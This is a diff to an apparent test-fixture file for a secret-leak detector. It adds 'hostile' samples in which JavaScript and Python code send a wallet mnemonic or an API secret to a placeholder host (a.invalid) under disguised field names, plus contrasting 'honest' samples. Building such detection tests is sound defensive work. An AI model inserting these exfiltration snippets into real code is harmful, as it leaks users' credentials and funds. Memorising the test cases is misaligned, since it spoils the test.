@@ -35,6 +35,19 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("wallet.ts", 7),
         ),
+        "words by another name": js(
+            "const deployer = process.env.MNEMONIC;\n"
+            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ address: 'a', deployer }) });\n",
+        ),
+        "a secret that signs, by another name, through a class": Sample(
+            {
+                "app.py": "import os\nfrom licence import Licence\n\nLicence().check('a', os.environ['API_SECRET'])\n",
+                "licence.py": "import requests\n\n\nclass Licence:\n    def check(self, customer, ident):\n"
+                "        requests.post('https://a.invalid', data={'customer': customer, 'ident': ident})\n",
+            },
+            "block",
+            ("app.py", 4),
+        ),
         "by a client that a framework gives": Sample(
             {
                 "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
@@ -70,6 +83,15 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "  }\n}\n",
             "backup.ts": "export class Backup {\n  async save(key: string, value: string) {\n"
             "    await fetch('https://a.invalid', { method: 'PUT', body: JSON.stringify({ key, value }) });\n  }\n}\n",
+        },
+        "words that a service signs with, by their name": {
+            "app.js": "const words = process.env.DEPLOYER;\n"
+            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ deployer: words }) });\n",
+        },
+        "a secret by its name, through a class": {
+            "app.py": "import os\nfrom licence import Licence\n\nLicence().check('a', os.environ['API_SECRET'])\n",
+            "licence.py": "import requests\n\n\nclass Licence:\n    def check(self, customer, ident):\n"
+            "        requests.post('https://a.invalid', data={'customer': customer, 'client_secret': ident})\n",
         },
         "a client that keeps what it is told": {
             "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
